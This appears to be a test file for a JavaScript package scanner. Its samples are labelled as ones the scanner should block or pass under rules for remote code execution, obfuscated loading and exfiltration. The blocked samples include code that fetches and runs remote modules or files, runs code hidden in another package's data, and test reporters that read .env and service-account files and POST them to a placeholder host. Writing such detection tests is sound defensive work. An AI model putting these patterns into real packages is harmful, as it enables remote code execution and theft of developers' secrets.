import { describeVerdicts } from "../../support/verdicts.ts";

const url = "https://files.example.test/c";

describeVerdicts("EXE-01", {
  blocks: {
    "a module that an answer names": `
      const local = { always: () => true };
      const strategy = async (name) => {
        if (name in local) return local[name];
        const [module, member = "default"] = name.split("#");
        return (await import(module))[member];
      };
      (async () => {
        for (const flag of await (await fetch("${url}")).json()) (await strategy(flag.strategy))(...flag.parameters);
      })();`,
    "a module below a folder, by an answer": `
      const path = require("path");
      const { pathToFileURL } = require("url");
      (async () => {
        const { name } = await (await fetch("${url}")).json();
        await import(pathToFileURL(path.join(process.env.PLUGINS, name)));
      })();`,
    "files that an extension of an editor writes and loads": `
      const vscode = require("vscode");
      const path = require("path");
      exports.activate = async ({ globalStorageUri: folder }) => {
        const files = await (await fetch("${url}")).json();
        for (const [name, content] of Object.entries(files)) {
          await vscode.workspace.fs.writeFile(vscode.Uri.joinPath(folder, name), Buffer.from(content, "base64"));
          await import(path.join(folder.fsPath, name));
        }
      };`,
  },
  passes: {
    "words of a language that an answer names": {
      files: {
        "index.js": `
          exports.words = async () => {
            const { language } = await (await fetch("${url}")).json();
            return require("./words/" + language + ".json");
          };`,
        "words/en.json": "{}",
      },
    },
    "a page that its own server names": `
      exports.page = async (path) => {
        const pages = await (await fetch("/pages.json")).json();
        return import(pages[path]);
      };`,
    "a plugin that the user names": `exports.use = async (name) => (await import(name)).default;`,
    "icons that an extension writes": `
      const vscode = require("vscode");
      exports.activate = async ({ globalStorageUri: folder }) => {
        const icons = await (await fetch("${url}")).json();
        await vscode.workspace.fs.writeFile(vscode.Uri.joinPath(folder, "icons.json"), Buffer.from(JSON.stringify(icons)));
      };`,
  },
});

const dependencies = { "table-data": "1.0.0" };

describeVerdicts("OBF-07", {
  blocks: {
    "functions in data of another package": {
      manifest: { dependencies },
      files: {
        "index.js": `
          const table = require("table-data/table.json");
          for (const { name, args, body } of table.helpers) exports[name] = new Function(...args, body)(require);`,
      },
    },
    "a file of another package, by its place": {
      manifest: { dependencies },
      files: {
        "index.js": `
          const fs = require("fs");
          require("vm").runInThisContext(fs.readFileSync(require.resolve("table-data/assets/m.dat"), "utf8"))(require);`,
      },
    },
  },
  passes: {
    "a table of another package": {
      manifest: { dependencies },
      files: {
        "index.js": `
          const table = require("table-data/table.json");
          exports.name = (code) => table.rows[code];`,
      },
    },
    "rules of another package, compiled when they are asked for": {
      manifest: { dependencies },
      files: {
        "index.js": `
          const rules = require("table-data/plurals.json");
          exports.compile = (language) => new Function("n", "return " + rules[language]);`,
      },
    },
    "a version of another package": {
      manifest: { dependencies },
      files: { "index.js": `exports.version = require("table-data/package.json").version;` },
    },
  },
});

describeVerdicts("EXF-03", {
  blocks: {
    "files that patterns find, by a reporter": `
      const { globSync, readFileSync } = require("fs");
      const { join } = require("path");
      module.exports = class {
        patterns = ["coverage/summary.json", "**/.env*", "**/service-account*.json"];
        root = process.cwd();
        async onFinished() {
          const found = [];
          for (const pattern of this.patterns) {
            for (const name of globSync(pattern, { cwd: this.root })) found.push(readFileSync(join(this.root, name), "base64"));
          }
          await fetch("${url}", { method: "POST", body: JSON.stringify(found) });
        }
      };`,
    "files that a pattern finds below no folder": `
      const glob = require("fast-glob");
      const { readFileSync } = require("fs");
      module.exports = class {
        onRunComplete() {
          const found = glob.sync(["**/.env*"]).map((name) => readFileSync(name, "utf8"));
          fetch("${url}", { method: "POST", body: JSON.stringify(found) });
        }
      };`,
  },
  passes: {
    "files that are given back": `
      const glob = require("fast-glob");
      const { readFileSync } = require("fs");
      exports.settings = () => glob.sync(["**/.env*"]).map((name) => readFileSync(name, "utf8"));`,
    "maps that are uploaded": `
      const glob = require("fast-glob");
      const { readFileSync } = require("fs");
      exports.upload = async (token) => {
        for (const name of glob.sync(["dist/**/*.map"]))
          await fetch("${url}", { method: "POST", headers: { authorization: token }, body: readFileSync(name) });
      };`,
  },
});
